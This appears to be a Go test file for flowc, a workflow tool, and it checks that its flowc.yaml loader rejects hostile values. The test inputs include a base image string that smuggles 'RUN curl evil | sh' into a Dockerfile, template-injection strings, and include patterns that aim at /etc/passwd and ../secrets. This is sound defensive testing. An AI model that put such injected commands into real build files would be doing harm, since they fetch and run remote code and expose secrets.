package config

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestHostileValues: a flowc.yaml, and the one diagnostic it must give (position, check id and
// a word of the message), or none.
func TestHostileValues(t *testing.T) {
	cases := []struct {
		name, yaml, want string
	}{
		{"service account with braces", "serviceAccount: \"{{workflow.name}}\"\n", "flowc.yaml:1:17: error: * [template-syntax]"},
		{"base image with a newline", "baseImage: \"python:3.12\\nRUN curl evil | sh\"\n", "flowc.yaml:1:12: error: *control character U+000A [config]"},
		{"base image not a reference", "baseImage: 'python 3.12'\n", "flowc.yaml:1:12: error: *is not an image reference* [config]"},
		{"go image with a FROM flag", "goImage: --platform=linux/amd64 golang\n", "flowc.yaml:1:10: error: *is not an image reference* [config]"},
		{"go runtime image with a newline", "goRuntimeImage: \"static\\nRUN x\"\n", "flowc.yaml:1:17: error: *control character U+000A [config]"},
		{"base image with a FROM flag", "baseImage: --platform=linux/amd64 python\n", "flowc.yaml:1:12: error: *is not an image reference* [config]"},
		{"image repo with a tag", "imageRepo: registry.example.com/flows:latest\n", "flowc.yaml:1:12: error: *has a tag or digest* [config]"},
		{"image repo upper case", "imageRepo: Registry/Flows\n", "flowc.yaml:1:12: error: *not an image repository* [config]"},
		{"namespace not a label", "namespace: My_NS\n", "flowc.yaml:1:12: error: \"My_NS\" is not a valid name* [name]"},
		{"label key with a space", "labels:\n  \"a b\": x\n", "flowc.yaml:2:3: error: \"a b\" is not a valid key* [name]"},
		{"flowc's own label", "labels:\n  flowc.dev/flow: other\n", "flowc.yaml:2:3: error: key \"flowc.dev/flow\" is flowc's own* [config]"},
		{"flowc's own annotation", "annotations: {app.kubernetes.io/managed-by: helm}\n", "flowc.yaml:1:15: error: key \"app.kubernetes.io/managed-by\" is flowc's own* [config]"},
		{"alias as annotations", "labels: &x {k: v}\nannotations: *x\n", "flowc.yaml:2:14: error: expected a mapping of names to strings, not a YAML alias [config]"},
		{"label value too long", "labels:\n  team: " + strings.Repeat("x", 64) + "\n", "flowc.yaml:2:9: error: *not a valid value for \"team\"* [name]"},
		{"annotation value with braces", "annotations:\n  owner: \"{{=sprig.env('X')}}\"\n", "flowc.yaml:2:10: error: * [template-syntax]"},
		{"annotation value with a tab", "annotations:\n  owner: \"a\\tb\"\n", "flowc.yaml:2:10: error: *control character U+0009 [config]"},
		{"unknown key", "imageRepos: x\n", "flowc.yaml:1:1: error: unknown setting \"imageRepos\" in flowc.yaml [config]"},
		{"key twice", "namespace: a\nnamespace: b\n", "flowc.yaml:2:1: error: setting \"namespace\" is given twice [config]"},
		{"negative parallelism", "parallelism: -1\n", "flowc.yaml:1:14: error: expected a whole number from 0 to 2147483647, not \"-1\" [config]"},
		{"parallelism overflow", "parallelism: 4294967296\n", "flowc.yaml:1:14: error: expected a whole number* [config]"},
		{"podGC unknown", "podGC: Never\n", "flowc.yaml:1:8: error: podGC \"Never\" is not one of* [config]"},
		{"pull secret name", "imagePullSecrets: [ok, \"../x\"]\n", "flowc.yaml:1:24: error: \"../x\" is not a valid name* [name]"},
		{"include absolute", "include: [/etc/passwd]\n", "flowc.yaml:1:11: error: include \"/etc/passwd\": the pattern must be relative* [config]"},
		{"include escaping", "include:\n  - data/*.csv\n  - ../secrets/*\n", "flowc.yaml:3:5: error: include \"../secrets/*\": the pattern must stay inside* [config]"},
		{"include bad glob", "include: [\"data/[a\"]\n", "flowc.yaml:1:11: error: include \"data/[a\": \"[a\" is not a valid glob* [config]"},
		{"include not a list", "include: data/*.csv\n", "flowc.yaml:1:10: error: expected a list, not a value \"data/*.csv\" [config]"},
		{"not a mapping", "- a\n", "flowc.yaml:1:1: error: flowc.yaml must be a mapping* [config]"},
		{"yaml syntax", "namespace: a\n  b: c: d\n", "flowc.yaml:2:1: error: * [config]"},
		{"good", "imageRepo: localhost:5000/team/flows\nbaseImage: python:3.12-slim@sha256:" + strings.Repeat("a", 64) +
			"\ngoImage: localhost:5000/go/golang:1.26.8\ngoRuntimeImage: localhost:5000/go/static:1" +
			"\nnamespace: pipelines\nlabels: {team: data}\ninclude: [data/*.csv, \"models/**/*.pkl\"]\nparallelism: 10\n", ""},
		{"empty", "", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			t.Chdir(dir)
			if err := os.WriteFile(FileName, []byte(c.yaml), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := Load(FileName)
			got := ""
			if err != nil {
				got = err.Error()
			}
			if !match(c.want, got) {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

// TestUnknownSettingSuggests: the settings flowc.yaml knows are the suggestion, not the message.
func TestUnknownSettingSuggests(t *testing.T) {
	t.Chdir(t.TempDir())
	if err := os.WriteFile(FileName, []byte("imageRepos: x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := Load(FileName)
	var cerr *Error
	if !errors.As(err, &cerr) || len(cerr.Diags) != 1 {
		t.Fatalf("Load = %v, want one diagnostic", err)
	}
	if s := cerr.Diags[0].Suggestion; !strings.HasPrefix(s, "flowc.yaml knows ") || !strings.Contains(s, "imageRepo, ") {
		t.Errorf("suggestion %q does not list the settings", s)
	}
}

// match is a glob with "*" only, enough for messages.
func match(pat, s string) bool {
	parts := strings.Split(pat, "*")
	if !strings.HasPrefix(s, parts[0]) {
		return false
	}
	s = s[len(parts[0]):]
	for i, p := range parts[1:] {
		if i == len(parts)-2 {
			return strings.HasSuffix(s, p)
		}
		j := strings.Index(s, p)
		if j < 0 {
			return false
		}
		s = s[j+len(p):]
	}
	return s == ""
}

// TestIncludeGood: patterns keep their order and positions.
func TestIncludeGood(t *testing.T) {
	t.Chdir(t.TempDir())
	os.WriteFile(FileName, []byte("include:\n  - movies.csv\n  - data/**\n"), 0o644)
	c, err := Load(FileName)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(c.Include, ",") != "movies.csv,data/**" || c.IncludePos[1].String() != "flowc.yaml:3:5" {
		t.Errorf("include %v at %v", c.Include, c.IncludePos)
	}
}

// TestFindStops: the search ends at the repository root or at home; outside both, only the
// working directory counts.
func TestFindStops(t *testing.T) {
	top := t.TempDir()
	mk := func(p string) string {
		d := filepath.Join(top, filepath.FromSlash(p))
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		return d
	}
	os.WriteFile(filepath.Join(top, FileName), []byte("namespace: planted\n"), 0o644)
	mk("repo/.git")
	os.WriteFile(filepath.Join(top, "repo", FileName), []byte("namespace: repo\n"), 0o644)
	mk("repo/sub/deeper")
	mk("norepo/sub")
	mk("home/user/.git-not/proj")
	os.WriteFile(filepath.Join(top, "home", FileName), []byte("namespace: above-home\n"), 0o644)
	t.Setenv("HOME", filepath.Join(top, "home", "user"))
	cases := []struct{ dir, ns string }{
		{"repo/sub/deeper", "repo"},
		{"norepo/sub", ""},              // the planted file in an ancestor is not taken
		{"home/user/.git-not/proj", ""}, // the search stops at home
	}
	for _, c := range cases {
		cfg, err := Find(filepath.Join(top, filepath.FromSlash(c.dir)))
		if err != nil {
			t.Fatal(err)
		}
		if cfg.Namespace != c.ns {
			t.Errorf("%s: namespace %q (from %q), want %q", c.dir, cfg.Namespace, cfg.File, c.ns)
		}
	}
}

// TestFindFIFO: a flowc.yaml that is a FIFO is refused, not opened (it would block).
func TestFindFIFO(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, ".git"), 0o755)
	if err := mkfifo(filepath.Join(dir, FileName)); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	_, err := Find(dir)
	if err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Fatalf("error %v", err)
	}
}

// TestFindFor: flowc.yaml is searched from each flow's directory, not the working directory,
// and flows under different files are refused together.
func TestFindFor(t *testing.T) {
	top := t.TempDir()
	for _, d := range []string{"repo/.git", "repo/a", "repo/b", "repo/c/sub"} {
		if err := os.MkdirAll(filepath.Join(top, filepath.FromSlash(d)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(p, s string) {
		if err := os.WriteFile(filepath.Join(top, filepath.FromSlash(p)), []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("repo/a/flowc.yaml", "namespace: a\n")
	write("repo/b/flowc.yaml", "namespace: b\n")
	write("repo/a/flow.py", "")
	write("repo/b/flow.py", "")
	write("repo/c/sub/flow.py", "")
	write("repo/c/flowc.yaml", "namespace: c\n")
	t.Chdir(filepath.Join(top, "repo", "b")) // the working directory's file is not the flows'
	p := func(s string) string { return filepath.Join(top, filepath.FromSlash(s)) }
	for _, c := range []struct {
		paths []string
		ns    string
	}{
		{[]string{p("repo/a/flow.py")}, "a"},
		{[]string{p("repo/a")}, "a"},
		{[]string{p("repo/c/sub/flow.py"), p("repo/c")}, "c"}, // the nearest above the flow
		{nil, "b"},
	} {
		cfg, err := FindFor(c.paths)
		if err != nil {
			t.Fatalf("%v: %v", c.paths, err)
		}
		if cfg.Namespace != c.ns {
			t.Errorf("%v: namespace %q (from %s), want %q", c.paths, cfg.Namespace, cfg.File, c.ns)
		}
	}
	_, err := FindFor([]string{p("repo/a/flow.py"), p("repo/b/flow.py")})
	want := "have different flowc.yaml files (" + filepath.ToSlash(p("repo/a/flowc.yaml")) + ", " + filepath.ToSlash(p("repo/b/flowc.yaml")) + "): give them to separate commands"
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("a and b together: %v, want an error containing %q", err, want)
	}
}
